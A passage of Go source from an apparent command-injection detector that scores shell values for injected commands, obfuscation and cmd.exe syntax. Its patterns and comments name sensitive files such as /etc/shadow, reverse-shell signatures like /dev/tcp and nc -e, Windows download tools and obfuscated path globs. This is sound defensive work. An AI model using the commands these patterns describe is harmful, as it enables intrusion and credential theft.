	}
	if from > len(c.Args) {
		from = len(c.Args)
	}
	for _, arg := range c.Args[from:] {
		rw := a.resolve(arg)
		if rw.split {
			for _, f := range strings.Fields(rw.text) {
				add(f, rw)
			}
			continue
		}
		if rw.glob && a.globs < maxGlobs && globSensitive(rw.text) {
			a.globs++
			s.sensitive = true
		}
		add(rw.text, rw)
	}
	return s
}

// isProseWord: a word of letters (with an optional final punctuation),
// as sentences are made of.
func isProseWord(t string) bool {
	if strings.HasPrefix(t, "[") || strings.HasSuffix(t, "]") || strings.HasSuffix(t, "...") || strings.HasSuffix(t, "…") {
		return true // a synopsis in documentation: kill [-s sigspec] [pid ...]
	}
	t = strings.TrimRight(t, ".,!?:;")
	if len(t) == 0 {
		return false
	}
	for i := 0; i < len(t); i++ {
		c := t[i]
		if !(('a' <= c && c <= 'z') || ('A' <= c && c <= 'Z') || c == '\'' || c >= 0x80) {
			return false
		}
	}
	return true
}

func isSensitive(t string) bool {
	if len(t) < 4 {
		return false
	}
	l := strings.ToLower(t)
	for _, s := range sensitive {
		if strings.Contains(l, s) {
			return true
		}
	}
	return false
}

// globSensitive: a globbed path that matches a sensitive file
// (/e??/p?ss??, /etc/pa*).
func globSensitive(pattern string) bool {
	if len(pattern) > maxGlobLen || strings.Count(pattern, "*") > 4 {
		return false
	}
	pattern = bashGlob(pattern)
	for _, f := range [...]string{"/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ"} {
		if ok, _ := path.Match(pattern, f); ok {
			return true
		}
	}
	return false
}

// globObfuscated: a path with wildcards standing for letters
// (/???/c?t, /e*c/p*d, /etc/[!q]asswd), not a code sample's [OPTION]….
func globObfuscated(t string) bool {
	if strings.IndexByte(t, '/') < 0 {
		return false
	}
	if strings.ContainsAny(t, "?*") {
		return true
	}
	for i := strings.IndexByte(t, '['); i >= 0 && i < len(t); {
		j := strings.IndexByte(t[i:], ']')
		if j < 0 {
			return false
		}
		if inner := t[i+1 : i+j]; len(inner) > 0 && len(inner) <= 5 && !strings.ContainsAny(inner, "\\,") {
			return true
		}
		k := strings.IndexByte(t[i+j:], '[')
		if k < 0 {
			return false
		}
		i += j + k
	}
	return false
}

// bashGlob turns bash's [!…] negation into path.Match's [^…].
func bashGlob(p string) string {
	if !strings.Contains(p, "[!") {
		return p
	}
	return strings.ReplaceAll(p, "[!", "[^")
}

func isIPv4ish(t string) bool {
	dots, digits := 0, 0
	for i := 0; i < len(t); i++ {
		switch c := t[i]; {
		case c == '.':
			dots++
		case '0' <= c && c <= '9':
			digits++
		case c == ':' || c == '/':
		default:
			return false
		}
	}
	return dots == 3 && digits >= 4
}

// judgeInjected scores a command the value added to the line.
func (a *analyzer) judgeInjected(c *syntax.CallExpr, w via, left cmdKind) cmdKind {
	name, kind, rw, extra := a.commandName(c)
	if kind == cmdUnknown {
		return kind
	}
	s := a.args(c, extra)
	viaXargs := name == "xargs"
	idx := 0
	if i, n, k := a.unwrap(c, name, kind); i > 0 {
		idx, name, kind, s = i, n, k, a.argsFrom(c, i+1, nil)
	}
	a.optionCluster(c, idx, name, &s)
	obf := rw.quoteSplit || rw.expanded || rw.glob || rw.split || s.obfusc
	var conf int
	noRun := false
	why := w.String() + " runs " + name
	switch {
	case strings.EqualFold(name, "net") && len(c.Args) > 1 && netSubcommand(a.resolve(c.Args[1]).text):
		conf, why = 85, why+" (account or share enumeration)"
	case s.sensitive:
		conf, why = 95, why+" on a sensitive path"
	case w == viaPipe && kind == cmdInterp && (left == cmdNet || left == cmdKnown):
		conf, why = 95, why+" fed by another command"
	case kind == cmdNet && s.url:
		conf, why = 92, why+" with a network address"
	case kind == cmdInterp && a.runsCode(c):
		conf, why = 90, why+" running code given on its command line"
	case obf:
		conf, why = 90, why+" (obfuscated)"
	case s.prose == 1 && s.n == 1 && kind != cmdWordy:
		conf = 55 // "; cat food", "`ps aux`"
	case s.prose > s.shellish:
		return kind // arguments are mostly a sentence
	case s.n == 0 && kind == cmdWordy:
		conf, noRun = 45, true // "`fetch`": a word in a code span
	case s.n == 0 && wrappers[name] && name != "env" && name != "xargs":
		// "`chroot`ed", "; nohup": a wrapper with no command runs
		// nothing
		conf, noRun = 45, true
	case s.n == 0 && kind != cmdInterp && kind != cmdNet && a.pipedIntoWord(c):
		// "bt|db|dir|pag"; a shell or a fetcher run bare still runs
		conf, noRun = 45, true
	case s.n == 0:
		conf = 85
	case s.shellish > 0 && s.prose <= s.shellish:
		conf = 85
	case s.shellish > 0:
		conf = 60
	case s.prose == 1 && kind != cmdWordy:
		conf = 55
	default:
		return kind // arguments are a sentence
	}
	if viaXargs && w == viaPipe && conf > 55 && !s.sensitive && !s.url && !obf && kind != cmdInterp && kind != cmdNet {
		// "… | xargs rm", "cmd | xargs -I{} echo {}": xargs runs its
		// command on what the command before the pipe printed, the
		// application's own output; without an interpreter, a
		// network tool or a sensitive path the attacker chose nothing.
		conf = 55
	}
	if (w == viaSubst || w == viaBackquote) && substIsWhole(a.value) && !noRun {
		// the whole value is a substitution: `ps aux`, $(id)
		conf += 25
	}
	switch w {
	case viaSubst:
		conf += 3
	case viaBackquote:
		// Markdown uses backquotes for code spans: "run `ls -la` first".
		if proseAround(a.value) && !s.sensitive && !(kind == cmdNet && s.url) {
			conf -= 30
		}
	case viaCompound:
		conf -= 5
	}
	if conf > 98 {
		conf = 98
	}
	severe := (w == viaPipe && kind == cmdInterp && left == cmdNet) || a.severeArgs(name, c)
	a.sensitiveHit = s.secret
	a.considerSevere(conf, why, c, severe)
	a.sensitiveHit = false
	return kind
}

func netSubcommand(t string) bool {
	switch strings.ToLower(t) {
	case "user", "users", "localgroup", "group", "view", "share", "use", "accounts", "session", "start", "stop", "config":
		return true
	}
	return false
}

// substIsWhole: v (trimmed) is one $(…) or `…`.
func substIsWhole(v string) bool {
	t := strings.TrimSpace(v)
	switch {
	case strings.HasPrefix(t, "$(") && strings.HasSuffix(t, ")"):
		return strings.Count(t, "$(") == 1
	case (strings.HasPrefix(t, "<(") || strings.HasPrefix(t, ">(")) && strings.HasSuffix(t, ")"):
		// <(…) and >(…): process substitution, run wherever the value
		// lands as a word
		return strings.Count(t, "(") == 1
	case strings.HasPrefix(t, "`") && strings.HasSuffix(t, "`") && len(t) > 2:
		return strings.Count(t, "`") == 2
	}
	return false
}

// runsCode: an interpreter given code to run (sh -c 'id', python -c …,
// perl -e …, cmd /c …, powershell -enc …) whose code is not a sentence.
func (a *analyzer) runsCode(c *syntax.CallExpr) bool {
	for i := 1; i+1 < len(c.Args); i++ {
		flag := strings.ToLower(a.resolve(c.Args[i]).text)
		switch flag {
		case "-c", "-e", "-r", "/c", "/k", "-enc", "-encodedcommand", "-command", "--eval", "-ex", "-wrapper":
			code := a.resolve(c.Args[i+1]).text
			if f := strings.Fields(code); len(f) > 0 && (lookupCmd(strings.TrimLeft(f[0], "!")) != cmdUnknown ||
				strings.ContainsAny(code, "();|&$`'\"=") || len(f) == 1) {
				return true
			}
		}
	}
	return false
}

// severeArgs: a reverse shell or a listener handing out a shell.
func (a *analyzer) severeArgs(name string, c *syntax.CallExpr) bool {
	nc := name == "nc" || name == "ncat" || name == "netcat" || name == "socat"
	for _, arg := range c.Args[1:] {
		t := a.resolve(arg).text
		if strings.Contains(t, "/dev/tcp/") || strings.Contains(t, "/dev/udp/") {
			return true
		}
		if nc && (t == "-e" || t == "-c" || strings.HasPrefix(t, "exec:")) {
			return true
		}
	}
	return false
}

// proseWords counts the plain words in s.
func proseWords(s string) int {
	n := 0
	for _, f := range strings.Fields(s) {
		if isProseWord(f) && len(f) > 1 {
			n++
		}
	}
	return n
}

// judgeCommandLine scores a value that is itself a command line: only
// obfuscation or a clear target makes it an attack.
func (a *analyzer) judgeCommandLine(c *syntax.CallExpr) {
	name, kind, rw, extra := a.commandName(c)
	if kind == cmdUnknown {
		if rw.glob && len(c.Args) == 1 && a.globs < maxGlobs && globSensitive(rw.text) {
			// /etc/[!q]asswd: a pattern only a shell would expand,
			// naming a sensitive file.
			a.globs++
			a.consider(70, "glob pattern that names a sensitive file", c)
		}
		return
	}
	s := a.args(c, extra)
	wrapped := false
	idx := 0
	if i, n, k := a.unwrap(c, name, kind); i > 0 {
		idx, name, kind, s = i, n, k, a.argsFrom(c, i+1, nil)
		wrapped = true
	}
	a.optionCluster(c, idx, name, &s)
	if s.prose >= 3 && s.prose > s.shellish {
		return // a sentence that starts with a command name
	}
	if !wrapped && (name == "flock" || name == "chroot") {
		// flock FILE COMMAND with a COMMAND that is no command: the
		// file is only locked, the directory only entered.
		return
	}
	// A globbed argument inside a brace list is how documentation
	// writes a set of files (chown root /usr/{ucb/{ex,edit},lib/ex?.?*});
	// it counts when it hides a sensitive target (s.sensitive). Other
	// globbed arguments (/[?]tc/pa[?]swd) and a globbed command word
	// (/???/c?t) are obfuscation.
	obf := rw.quoteSplit || rw.expanded || rw.split || (rw.glob && globObfuscated(rw.text)) || s.obfuscNoGlob
	switch {
	case obf && s.sensitive:
		a.consider(95, "obfuscated "+name+" on a sensitive path", c)
	case obf && (s.shellish > 0 || s.n == 0):
		a.consider(85, "obfuscated command "+name, c)
	case s.sensitive && s.prose == 0:
		a.consider(85, name+" on a sensitive path", c)
	case kind == cmdNet && s.url && s.prose == 0:
		a.consider(65, name+" of a network address", c)
	case kind == cmdInterp && s.shellish > 0 && s.prose == 0 && rw.expanded:
		a.consider(80, "interpreter named through a variable: "+name, c)
	case kind == cmdInterp && a.runsCode(c):
		a.consider(80, name+" runs code given on its command line", c)
	case wrapped && kind != cmdWordy && (s.n == 0 || s.shellish >= s.prose):
		a.consider(70, "command run through a wrapper: "+name, c)
	}
}

// proseAround: the value has at least three plain words outside
// backquotes, as a sentence does.
func proseAround(v string) bool {
	words, in := 0, false
	for _, f := range strings.Fields(v) {
		if strings.Count(f, "`")%2 == 1 {
			in = !in
			continue
		}
		if !in && isProseWord(f) {
			words++
		}
	}
	return words >= 3
}

// hasForLoop is cmdForLoop's cheap pre-check: "for" and a "%" variable.
func hasForLoop(v string) bool {
	i := indexFold(v, "for")
	return i >= 0 && strings.IndexByte(v[i:], '%') > 0
}

func indexFold(s, w string) int {
	for i := 0; i+len(w) <= len(s); i++ {
		if strings.EqualFold(s[i:i+len(w)], w) {
			return i
		}
	}
	return -1
}

// cmdForLoop recognises cmd.exe's FOR loop, a compound command of its own
// grammar, scanned by that grammar:
//
//	FOR [/D | /R [path] | /L | /F ["options"]] %var IN (set) DO command
//
// The options are one quoted string ("tokens=1,3 delims=,"), the set is
// parenthesised and may quote a command ('cmd /c …') with parentheses of
// its own, and DO must be followed by a command. The %variable makes the
// shape unmistakable: prose has no "for %G in (…) do …".
//
// Every "for" that starts a word is a candidate, however many decoys come
// first; the work is bounded instead: the bytes the candidates' scans
// cover add up to at most forScanBudget times the value's length. Only
// values crowded with FOR heads that each open a long scan ("for %i in (
// for %i in ( …") can exhaust it, and such a value is cmd.exe syntax
// whatever else it holds: it is reported rather than let through.
func cmdForLoop(v string) (detect.Finding, bool) {
	budget := forScanBudget*len(v) + 1024
	for i := 0; i+3 <= len(v); i++ {
		if (i > 0 && !cmdBoundary(v[i-1])) || !strings.EqualFold(v[i:i+3], "for") {
			continue
		}
		end, cmdSet, ok, reach := forTail(v, i+3)
		if ok {
			f := detect.Finding{Confidence: 75, Reason: "cmd.exe FOR loop", Start: i, End: end}
			if cmdSet {
				f.Confidence, f.Reason = 85, "cmd.exe FOR /F loop over a command's output"
			}
			return f, true
		}
		if budget -= reach - i; budget < 0 {
			return detect.Finding{Confidence: 70, Reason: "cmd.exe FOR loop heads past the scan budget", Start: i, End: len(v)}, true
		}
	}
	return detect.Finding{}, false
}

// forScanBudget bounds cmdForLoop's work: a multiple of the value's length.
const forScanBudget = 16

// cmdBoundary: a byte after which cmd.exe starts a command or a word.
func cmdBoundary(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '&' || c == '|' || c == '(' || c == '@' || c == ';' || c == '"' || c == '\''
}

// forTail scans the rest of a FOR loop after the keyword at v[:j]; it
// reports where the loop's command ends and whether the set runs a
// command (FOR /F over '…' or `…`); reach is how far it scanned.
func forTail(v string, j int) (end int, cmdSet, ok bool, reach int) {
	defer func() { reach = j }()
	blanks := func() int {
		k := j
		for j < len(v) && (v[j] == ' ' || v[j] == '\t') {
			j++
		}
		return j - k
	}
	token := func() {
		for j < len(v) && v[j] != ' ' && v[j] != '\t' {
			j++
		}
	}
	if blanks() == 0 {
		return 0, false, false, 0
	}
	fSwitch := false
	for n := 0; n < 4 && j+1 < len(v) && v[j] == '/'; n++ {
		sw := v[j+1] | 0x20
		j += 2
		if j < len(v) && v[j] != ' ' && v[j] != '\t' {
			return 0, false, false, 0
		}
		blanks()
		switch sw {
		case 'd', 'l':
		case 'r', 'f':
			fSwitch = fSwitch || sw == 'f'
			if j >= len(v) || v[j] == '%' || v[j] == '/' {
				break
			}
			// the path of /R, the options of /F: one word or one
			// quoted string ("…" or \"…\" once escaped for transport)
			switch {
			case v[j] == '"':
				k := strings.IndexByte(v[j+1:], '"')
				if k < 0 {
					j = len(v)
					return 0, false, false, 0
				}
				j += k + 2
			case strings.HasPrefix(v[j:], `\"`):
				k := strings.Index(v[j+2:], `\"`)
				if k < 0 {
					j = len(v)
					return 0, false, false, 0
				}
				j += k + 4
			default:
				token()
			}
			blanks()
		default:
			return 0, false, false, 0
		}
	}
	// %G, %%G, or a synopsis' %variable
	if j >= len(v) || v[j] != '%' {
		return 0, false, false, 0
	}
	j++
	if j < len(v) && v[j] == '%' {
		j++
	}
	k := j
	for j < len(v) && j-k < 32 && (isAlnum(v[j]) || v[j] == '_' || v[j] == '~') {
		j++
	}
	if j == k {
		// cmd.exe takes any one character as the variable: %-, %[
		if j >= len(v) || v[j] == ' ' || v[j] == '\t' {
			return 0, false, false, 0
		}
		j++
	}
	if blanks() == 0 || j+2 > len(v) || !strings.EqualFold(v[j:j+2], "in") {
		return 0, false, false, 0
	}
	j += 2
	blanks()
	if j >= len(v) || v[j] != '(' {
		return 0, false, false, 0
	}
	// the set: to its closing parenthesis, quotes kept whole
	depth, quote := 0, byte(0)
	setStart := j + 1
	for ; j < len(v); j++ {
		c := v[j]
		switch {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '\'' || c == '`' || c == '"':
			quote = c
		case c == '(':
			depth++
		case c == ')':
			depth--
		}
		if depth == 0 {
			break
		}
	}
	if j >= len(v) {
		return 0, false, false, 0
	}
	set := strings.TrimSpace(v[setStart:j])
	j++
	blanks()
	if j+2 > len(v) || !strings.EqualFold(v[j:j+2], "do") {
		return 0, false, false, 0
	}
	j += 2
	if j < len(v) && v[j] != ' ' && v[j] != '\t' && v[j] != '(' && v[j] != '@' {
		return 0, false, false, 0
	}
	blanks()
	if j >= len(v) {
		return 0, false, false, 0 // DO and no command
	}
	cmdSet = fSwitch && len(set) > 1 && (set[0] == '\'' || set[0] == '`')
	return len(v), cmdSet, true, 0
}

// hasIf is cmdIf's cheap pre-check.
func hasIf(v string) bool {
	t := strings.TrimLeft(v, " \t&|;")
	return len(t) > 3 && (t[0]|0x20) == 'i' && (t[1]|0x20) == 'f' && t[2] == ' '
}

// cmdIf recognises cmd.exe's IF statement: IF [/I] [NOT] EXIST x cmd,
// IF [NOT] DEFINED x cmd, IF [NOT] ERRORLEVEL n cmd, IF CMDEXTVERSION n
// cmd, IF a==b cmd, IF a EQU|NEQ|LSS|LEQ|GTR|GEQ b cmd. Prose says "if it
// exists", not "IF EXIST x ECHO y"; the forms that read like English
// need a cmd.exe command after them.
func cmdIf(v string) (detect.Finding, bool) {
	if !hasIf(v) {
		return detect.Finding{}, false
	}
	t := strings.TrimLeft(v, " \t&|;")
	f := cmdFields(t)[1:]
	if len(f) > 0 && strings.EqualFold(f[0], "/i") {
		f = f[1:]
	}
	if len(f) > 0 && strings.EqualFold(f[0], "not") {
		f = f[1:]
	}
	if len(f) < 2 {
		return detect.Finding{}, false
	}
	cmdAfter := func(rest []string) bool {
		if len(rest) == 0 {
			return false
		}
		w := strings.ToLower(strings.TrimLeft(rest[0], "(@"))
		switch w {
		case "echo", "set", "goto", "call", "exit", "cmd", "del", "copy", "type", "start", "md", "mkdir", "rd",
			"move", "ren", "pause", "cls", "dir", "if", "for", "", "else", "shift", "setlocal", "endlocal", "foo":
			return true
		}
		return strings.HasPrefix(rest[0], "(") || strings.ToUpper(rest[0]) == rest[0] && len(rest[0]) > 1
	}
	switch k := strings.ToUpper(f[0]); {
	case k == "EXIST" || k == "DEFINED" || k == "ERRORLEVEL" || k == "CMDEXTVERSION":
		if cmdAfter(f[2:]) || (f[0] == k && len(f) > 2) {
			return detect.Finding{Confidence: 70, Reason: "cmd.exe IF " + k, Start: 0, End: len(v)}, true
		}
	case strings.Contains(f[0], "=="):
		// IF a==b cmd: the comparison written as one word, as only
		// batch files do
		if cmdAfter(f[1:]) || strings.HasSuffix(f[0], "==") && cmdAfter(f[2:]) || len(f) >= 2 {
			return detect.Finding{Confidence: 70, Reason: "cmd.exe IF comparison", Start: 0, End: len(v)}, true
		}
	case len(f) >= 3:
		switch strings.ToUpper(f[1]) {
		case "EQU", "NEQ", "LSS", "LEQ", "GTR", "GEQ", "==":
			// IF a EQU b cmd, IF "A A" == "A A" echo same, IF {%1} ==
			// {}: a command after, or operands only batch files write;
			// not "If ancestor_level == level of cgroup associated …"
			if cmdAfter(f[3:]) || len(f) == 3 || strings.ContainsAny(f[0]+f[2], "%\"{}") {
				return detect.Finding{Confidence: 70, Reason: "cmd.exe IF comparison", Start: 0, End: len(v)}, true
			}
		}
	}
	return detect.Finding{}, false
}

// cmdFields splits a cmd.exe line into words, a "…" string (blanks
// and all) being one word, as cmd.exe's own parser keeps it.
func cmdFields(s string) []string {
	var out []string
	for i := 0; i < len(s) && len(out) < 64; {
		for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
			i++
		}
		if i >= len(s) {
			break
		}
		j := i
		for j < len(s) && s[j] != ' ' && s[j] != '\t' {
			if s[j] == '"' {
				if k := strings.IndexByte(s[j+1:], '"'); k >= 0 {
					j += k + 1
				}
			}
			j++
		}
		out = append(out, s[i:j])
		i = j
	}
	return out
}

// windowsScan catches cmd.exe and PowerShell shapes the bash grammar does
// not parse (IEX(New-Object Net.WebClient)…): a separator followed by a
// Windows interpreter or tool.
func windowsScan(v string) (detect.Finding, bool) {
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c != ';' && c != '&' && c != '|' && c != '\n' {
			continue
		}
		j := i + 1
		for j < len(v) && (v[j] == ' ' || v[j] == '\t' || v[j] == '&' || v[j] == '|') {
			j++
		}
		k := j
		for k < len(v) && (isWordChar(v[k]) || v[k] == '\\' || v[k] == ':') {
			k++
		}
		if k == j || k-j > 40 {
			continue
		}
		word := strings.ToLower(v[j:k])
		if i := lastSep(word); i >= 0 {
			word = word[i+1:]
		}
		word = strings.TrimSuffix(word, ".exe")
		switch word {
		case "powershell", "pwsh", "cmd", "iex", "invoke-expression", "mshta", "rundll32", "regsvr32",
			"certutil", "bitsadmin", "wmic", "cscript", "wscript":
			if k == len(v) || v[k] == ' ' || v[k] == '(' || v[k] == '/' || v[k] == '\t' {
				return detect.Finding{Confidence: 80, Reason: "Windows interpreter after a separator: " + word, Start: i, End: k}, true
			}
		}
	}
	return detect.Finding{}, false
}

// synopsisBracket: an option group of a usage synopsis cut by blanks,
// "[-s" or "signum]": an opening bracket without its close or the
// reverse (a glob class such as /etc/pass[w]d has both).
func synopsisBracket(t string) bool {
	open, closed := strings.IndexByte(t, '['), strings.IndexByte(t, ']')
	return (strings.HasPrefix(t, "[") && closed < 0) || (strings.HasSuffix(t, "]") && open < 0 && len(t) > 1)
}

// blankFences replaces every run of three or more backquotes, and the
// info string after it, with blanks.
func blankFences(v string) string {
	b := []byte(v)
	for i := 0; i < len(b); {
		if b[i] != '`' {
			i++
			continue
		}
		j := i
		for j < len(b) && b[j] == '`' {
			j++
		}
		if j-i >= 3 {
			// the fence, and its info string ("```bash") when one word
			// ends the line: "```; cat …" keeps its command.
			k := j
			for k < len(b) && (isAlnum(b[k]) || b[k] == '+' || b[k] == '-' || b[k] == '.' || b[k] == '_') {
				k++
			}
			if k == len(b) || b[k] == '\n' || b[k] == '\r' {
				j = k
			}
			for k := i; k < j; k++ {
				b[k] = ' '
			}
		}
		i = j
	}
	return string(b)
}

// placeOnly: the sensitive path is a place to write to or read from
// (/tmp/, /var/log/, a web root), which documentation names as often as
// an attack does.
func placeOnly(t string) bool {
	l := strings.ToLower(t)
	for _, p := range [...]string{"/tmp/", "/dev/shm", "/var/log/", "/var/www", "/srv/www", "inetpub", "wwwroot"} {
		if strings.Contains(l, p) {
			for _, s := range sensitive {
				if !strings.Contains(p, s) && !strings.Contains(s, p) && strings.Contains(l, s) {
					return false // also names a secret: /tmp/../etc/passwd
				}
			}
			return true
		}
	}
	return false
}

// dashless are commands whose first argument may be a cluster of option
// letters without a dash (BSD style), and those letters.
var dashless = map[string]string{
	"ps": "aAcCeEfFgGhjlLmMnNOrsStTuUvwxXZ", "tar": "AcdrtuxbfhjJklmMoOpPRsSvwWzZ", "ar": "dmpqrtxcosSuv",
}

// optionCluster counts the first argument of ps, tar or ar as an option
// when it is a cluster of their dashless option letters ("ps aux", "tar
// xvf"): it is no word of a sentence then.
func (a *analyzer) optionCluster(c *syntax.CallExpr, idx int, name string, s *argShape) {
	letters, ok := dashless[name]
	if !ok || idx+1 >= len(c.Args) || s.prose == 0 {
		return
	}
	t := a.resolve(c.Args[idx+1]).text
	if len(t) < 2 || len(t) > 8 {
		return
	}
	for i := 0; i < len(t); i++ {
		if strings.IndexByte(letters, t[i]) < 0 {
			return
		}
	}
	s.prose--
	s.shellish++
}

// placeholder: an upper-case synopsis placeholder (FILE, ,FICHIER1,
// [OPTION]..., SOURCE/), as manual pages write the arguments a command
// takes.
func placeholder(t string) bool {
	// a leading '/' or '-' is a switch (ipconfig /ALL), not a placeholder
	t = strings.TrimRight(strings.TrimLeft(t, ",["), ",./\\]")
	if t == "" || t[0] == '-' || t[0] == '/' {
		return false
	}
	letters := 0
	for i := 0; i < len(t); i++ {
		switch c := t[i]; {
		case 'A' <= c && c <= 'Z':
			letters++
		case '0' <= c && c <= '9', c == '_', c == '-':
		default:
			return false
		}
	}
	return letters >= 2
}

// braceList: t has a brace expansion list ({a,b}).
func braceList(t string) bool {
	i := strings.IndexByte(t, '{')
	return i >= 0 && strings.IndexByte(t[i:], ',') > 0 && strings.IndexByte(t[i:], '}') > 0
}

// emptySubst is the length of the empty substitution s starts with
// (“, $(), <(), >()), or 0.
func emptySubst(s string) int {
	switch {
	case strings.HasPrefix(s, "``"):
		return 2
	case strings.HasPrefix(s, "$()"), strings.HasPrefix(s, "<()"), strings.HasPrefix(s, ">()"):
		return 3
	}
	return 0
}

// arithmChars are the bytes of an arithmetic expression.
var arithmChars = func() (t [256]bool) {
	for _, c := range []byte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_+-*/%()$[]<>=!&|^~?:,. \t#") {
		t[c] = true
	}
	return t
}()

// wholeArithm judges a value that is one arithmetic expansion, $((…)) or
// bash's $[…]: wherever it lands as a word, the shell evaluates it, and
// array subscripts and substitutions inside run commands ($[a[$(id)]]).
// No sentence, name or number is one; a code sample in a post has words
// around it.
func wholeArithm(v string) (f detect.Finding, ok bool) {
	t := strings.TrimSpace(v)
	if !(strings.HasPrefix(t, "$[") && strings.HasSuffix(t, "]")) && !(strings.HasPrefix(t, "$((") && strings.HasSuffix(t, "))")) {
		return f, false
	}
	defer func() {
		if recover() != nil {
			f, ok = detect.Finding{}, false
		}
	}()
	start := len(v) - len(strings.TrimLeft(v, " \t\n\r"))
	file, err := parse("x " + t)
	if err != nil {
		// $[] and $(($() 42)): bash evaluates what this parser's
		// stricter arithmetic grammar refuses; made of arithmetic
		// bytes only, it is still an expansion.
		for i := 0; i < len(t); i++ {
			if !arithmChars[t[i]] {
				return f, false
			}
		}
		f = detect.Finding{Confidence: 70, Reason: "value is an arithmetic expansion", Start: start, End: start + len(t)}
		if strings.Contains(t[1:], "$(") {
			f.Confidence, f.Reason = 80, "value is an arithmetic expansion with a command substitution"
		}
		return f, true
	}
	if len(file.Stmts) != 1 {
		return f, false
	}
	c, isCall := file.Stmts[0].Cmd.(*syntax.CallExpr)
	if !isCall || len(c.Args) != 2 || len(c.Args[1].Parts) != 1 {
		return f, false
	}
	ae, isArithm := c.Args[1].Parts[0].(*syntax.ArithmExp)
	if !isArithm {
		return f, false
	}
	subst, nodes := false, 0
	syntax.Walk(ae, func(n syntax.Node) bool {
		nodes++
		switch n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst:
			subst = true
		}
		return !subst && nodes < 4*MaxLen
	})
	f = detect.Finding{Confidence: 72, Reason: "value is an arithmetic expansion", Start: start, End: start + len(t)}
	if subst {
		f.Confidence, f.Reason = 85, "value is an arithmetic expansion that runs a command substitution"
	}
	return f, true
}
